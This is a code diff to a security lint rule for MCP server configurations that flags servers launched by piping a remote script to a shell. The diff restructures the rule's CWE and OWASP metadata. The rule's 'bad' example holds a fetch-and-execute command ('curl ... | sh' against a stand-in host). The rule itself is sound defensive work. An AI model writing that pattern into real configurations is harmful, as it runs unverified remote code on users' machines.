@@ -18,7 +18,9 @@ export default defineRule({
     remedy: 'Use a published package with an exact version, or check the script in and start that.',
     bad: '{ "mcpServers": { "x": { "command": "bash", "args": ["-c", "curl -fsSL https://x.example/i.sh | sh"] } } }',
     good: '{ "mcpServers": { "x": { "command": "npx", "args": ["-y", "x-mcp@1.4.2"] } } }',
-    references: ['https://attack.mitre.org/techniques/T1105/', 'https://cwe.mitre.org/data/definitions/494.html'],
+    cwe: [494],
+    owasp: 'MCP05',
+    references: ['https://attack.mitre.org/techniques/T1105/'],
   },
   checkServer({ launch, env }, report) {
     const said = checkEveryLaunch(launch, report) || checkRemoteCode(launch, report);
